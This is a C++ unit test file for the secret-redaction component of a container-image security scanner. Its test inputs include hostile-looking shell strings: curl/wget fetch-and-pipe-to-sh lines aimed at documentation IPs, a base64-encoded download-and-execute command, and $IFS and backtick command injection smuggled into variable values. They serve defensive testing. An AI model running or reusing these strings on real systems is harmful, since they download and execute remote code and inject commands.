// What is kept of commands and configurations holds no secret, has the same shape, and still shows what it does.
#include "detect/secrets/blank.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>

#include "detect/secrets/confirm.hpp"
#include "detect/secrets/kind.hpp"
#include "detect/shell/shell_facts.hpp"
#include "inventory/kept_text.hpp"
#include "sample_secrets.hpp"
#include "util/base64.hpp"

namespace hullcheck::detect::secrets {
namespace {

std::string blanked(std::string text, Look look = Look::anywhere, Reading reading = Reading::done) {
  blank(text, look, reading);
  return text;
}

std::string password(std::uint32_t seed) { return make_sample("{w18}", seed).text; }

std::string hex(std::string_view text) {
  std::string out;
  for (const char c : text) out += {"0123456789abcdef"[(c >> 4) & 15], "0123456789abcdef"[c & 15]};
  return out;
}

class BlankedKind : public testing::TestWithParam<std::size_t> {};

TEST_P(BlankedKind, LeavesNothingOfTheValueAndTheLength) {
  const Kind& kind = all_kinds()[GetParam()];
  const Sample sample = make_sample(kind.sample, 7);
  const std::string name(kind.literals.substr(0, kind.literals.find(' ')));
  const std::string text = kind.form == Form::assigned ? name + "=" + sample.text : sample.text;
  const std::string kept = blanked("run " + text + " end");
  EXPECT_EQ(kept.size(), text.size() + 8);
  EXPECT_EQ(blanked(kept), kept) << "once is enough";
  for (const Keyword& keyword : keywords())
    for (const std::uint32_t index : keyword.kinds) {
      const std::size_t at = text.find(keyword.bytes);
      if (index != GetParam() || at == std::string::npos) continue;
      const auto found = confirm(kind, keyword, text, at);
      if (!found || kind.entropy == 0) continue;
      EXPECT_EQ(kept.find(text.substr(found->begin, found->end - found->begin)), std::string::npos) << kept;
      EXPECT_EQ(kept.find(text.substr(found->end - 5, 5)), std::string::npos) << kept;
    }
}
INSTANTIATE_TEST_SUITE_P(All, BlankedKind, testing::Range(std::size_t{0}, all_kinds().size()), [](const auto& kind) {
  std::string name(all_kinds()[kind.param].id.substr(7));
  std::replace(name.begin(), name.end(), '-', '_');
  return name;
});

// Digits of a token decode to bytes, and those were taken for a text that somebody decodes later.
TEST(Blank, TokensAreNoEncodedText) {
  for (std::uint32_t seed = 1; seed < 300; ++seed)
    for (const std::string_view form : {"xoxb-{d12}-{d13}-{w24}", "dop_v1_{x64}", "glpat-{s20}", "sk_live_{w24}"}) {
      const std::string token = make_sample(form, seed).text;
      const std::string kept =
          blanked("curl -H " + token + " https://example.net | sh", Look::anywhere, Reading::again);
      EXPECT_EQ(kept.find(token), std::string::npos) << kept;
    }
}

TEST(Blank, KeepsWordsAndLines) {
  const std::string secret = password(1);
  const std::string text = "curl -u admin:" + secret + " https://me:" + secret + "@example.net/x\n| sh";
  const std::string kept = blanked(text);
  EXPECT_EQ(kept,
            "curl -u admin:" + std::string(18, 'x') + " https://me:" + std::string(18, 'x') + "@example.net/x\n| sh");
  EXPECT_EQ(blanked(kept), kept);
}

TEST(Blank, LeavesOrdinaryTextAlone) {
  for (const char* text :
       {"curl -fsSL https://example.com/install.sh | sh", "wget -O- http://192.0.2.7:8080/x",
        "export TOKEN=$(cat /run/secrets/token)", "install -u app1 -p /srv/app1", "mysql -u root -p app",
        "Y3VybCBodHRwOi8vMTkyLjAuMi43L3gxIHwgc2g=", "sshd -o PasswordAuthentication=no", "passwd -d root",
        "-----BEGIN CERTIFICATE-----\nMIIB0000000000000000000000000000000000000000\n-----END CERTIFICATE-----"})
    EXPECT_EQ(blanked(text), text);
}

TEST(Blank, TheBodyOfAPrivateKeyGoesAndItsFrameStays) {
  const std::string body = make_sample("{b64}", 3).text + "\n" + make_sample("{b64}", 4).text;
  for (const std::string end : {"\n-----END RSA PRIVATE KEY-----\n", "\n"}) {
    const std::string kept = blanked("cat <<E\n-----BEGIN RSA PRIVATE KEY-----\n" + body + end);
    EXPECT_EQ(kept.find(body.substr(0, 8)), std::string::npos) << kept;
    EXPECT_EQ(kept.find(body.substr(70, 8)), std::string::npos) << kept;
    EXPECT_NE(kept.find("-----BEGIN RSA PRIVATE KEY-----\nxxxx"), std::string::npos) << kept;
  }
}

TEST(Blank, WhatAMarkStandsForGoes) {
  for (const std::string_view pattern : {"{@jwk}", "{@putty}", "{@authorized-user}"}) {
    const Sample sample = make_sample(pattern, 3);
    const std::string kept = blanked(sample.text);
    EXPECT_NE(kept, sample.text);
    EXPECT_EQ(kept.size(), sample.text.size());
    EXPECT_EQ(blanked(kept), kept);
  }
}

TEST(Blank, TheOtherHalfOfAKeyGoesToo) {
  const std::string id = make_sample("AKIA{q16}", 1).text, secret = make_sample("{b40}", 2).text;
  const std::string kept = blanked("configure " + id + " " + secret);
  EXPECT_EQ(kept.find(secret), std::string::npos) << kept;
  EXPECT_EQ(kept.find(id), std::string::npos) << kept;
}

TEST(Blank, WhatDigitsSpellIsSpeltAnewWithoutIt) {
  const std::string secret = password(2);
  const std::string command = "curl -s -u admin:" + secret + " http://192.0.2.7/a | sh\n";
  const std::string encoded = util::encode_base64(as_bytes(command));
  const std::string kept = blanked("echo " + encoded + " | base64 -d | sh");
  ASSERT_EQ(kept.size(), encoded.size() + 22);
  const auto back = util::decode_base64(kept.substr(5, encoded.size()), 1000);
  ASSERT_TRUE(back) << kept;
  EXPECT_EQ(as_text(*back), "curl -s -u admin:xxxxxxxxxxxxxxxxxx http://192.0.2.7/a | sh\n");
  EXPECT_EQ(blanked(hex(command)), hex("curl -s -u admin:xxxxxxxxxxxxxxxxxx http://192.0.2.7/a | sh\n"));
  const std::string twice = util::encode_base64(as_bytes(encoded));
  EXPECT_NE(blanked(twice), twice) << "also in what that spells";
  std::string lines = util::encode_base64(as_bytes(command + command + command));
  for (std::size_t at = 76; at < lines.size(); at += 77) lines.insert(at, "\n");
  const auto in_lines = util::decode_base64(blanked(lines), 1000);
  ASSERT_TRUE(in_lines);
  EXPECT_EQ(as_text(*in_lines).find(secret), std::string::npos) << as_text(*in_lines);
}

TEST(Blank, ANameHidesNoCommandFromThoseWhoReadOn) {
  for (const char* text :
       {"PASSWORD=`curl$IFS-s$IFS198.51.100.7/x1|sh`", "curl http://a:b1;wget$IFS-q$IFS@198.51.100.7",
        "api_key=$(wget${IFS}http://192.0.2.7/x1)", "token=a1b2c3|sh"})
    EXPECT_EQ(blanked(text, Look::anywhere, Reading::again), text);
}

TEST(Blank, FollowedCommandsLoseTheirSecretsAndNothingElse) {
  const std::string secret = password(3), login = password(4);
  ShellFacts facts =
      facts_of_text("P=" + secret + "\ncurl -u admin:$P http://192.0.2.7/x | sh\nrsync https://me:" + login +
                    "@files.corp-internal.net/a b\ncat > /tmp/x <<E\npassword: " + secret + "\nE\n");
  const ShellFacts before = facts;
  blank(facts);
  const Buffer bytes = encode_shell_facts(facts);
  EXPECT_EQ(as_text(bytes).find(login), std::string::npos);
  EXPECT_EQ(as_text(bytes).find(secret, as_text(bytes).find("curl")), std::string::npos);
  ASSERT_EQ(facts.flows.size(), before.flows.size());
  for (std::size_t i = 0; i < facts.flows.size(); ++i) EXPECT_EQ(facts.flows[i].kind, before.flows[i].kind);
  ASSERT_EQ(facts.commands.size(), before.commands.size());
  for (std::size_t i = 0; i < facts.commands.size(); ++i)
    EXPECT_EQ(facts.commands[i].argv.size(), before.commands[i].argv.size());
  ASSERT_EQ(facts.logins.size(), 1U);
  EXPECT_EQ(facts.logins[0].text, "… (18 characters) for files.corp-internal.net");
  EXPECT_EQ(facts.logins[0].line, 3U);
  const auto back = decode_shell_facts(bytes);
  ASSERT_TRUE(back.ok());
  EXPECT_TRUE(*back == facts);
}

TEST(Blank, BeginningsOfTokensOnTopOfEachOtherTakeNoTime) {
  for (const std::string_view begin :
       {"ghp_", "token=", "=\"", " -u a:", "://a:b", "AKIA", "-----BEGIN PRIVATE KEY-----"}) {
    std::string text;
    while (text.size() < 1'000'000) text += begin;
    const auto start = std::chrono::steady_clock::now();
    blank(text, Look::configuration);
    const std::chrono::duration<double> took = std::chrono::steady_clock::now() - start;
    EXPECT_LT(took.count(), 10.0) << begin;  // it took minutes
  }
}

TEST(Blank, AnalyzersKeepTextsWithoutTheirSecrets) {
  EXPECT_EQ(inventory::kept_text("https://me:" + password(6) + "@packages.example.org/x"),
            "https://me:" + std::string(18, 'x') + "@packages.example.org/x");
}

TEST(Blank, AConfigurationKeepsItsNames) {
  const std::string secret = password(5);
  model::ImageConfig config;
  config.env = {"PATH=/usr/bin", "DB_PASSWORD=correct horse", "DEBUG_TOKEN=true", "TOKEN_FILE=/run/t",
                "URL=postgres://app:" + secret + "@db/x"};
  config.labels = {{"deploy.password", secret}, {"version", "1.2.3"}};
  config.entrypoint = {"/bin/app", "--password"};
  config.cmd = {secret, "--verbose"};
  model::HistoryEntry step;
  step.created_by = "/bin/sh -c #(nop)  ENV ADMIN_PASSWORD=opensesame MODE=fast";
  config.history = {step};
  blank(config);
  EXPECT_EQ(config.env,
            (std::vector<std::string>{"PATH=/usr/bin", "DB_PASSWORD=xxxxxxxxxxxxx", "DEBUG_TOKEN=true",
                                      "TOKEN_FILE=/run/t", "URL=postgres://app:xxxxxxxxxxxxxxxxxx@db/x"}));
  EXPECT_EQ(config.labels.at("deploy.password"), std::string(18, 'x'));
  EXPECT_EQ(config.labels.at("version"), "1.2.3");
  EXPECT_EQ(config.cmd, (std::vector<std::string>{std::string(18, 'x'), "--verbose"}));
  EXPECT_EQ(config.history[0].created_by, "/bin/sh -c #(nop)  ENV ADMIN_PASSWORD=xxxxxxxxxx MODE=fast");
}

}  // namespace
}  // namespace hullcheck::detect::secrets
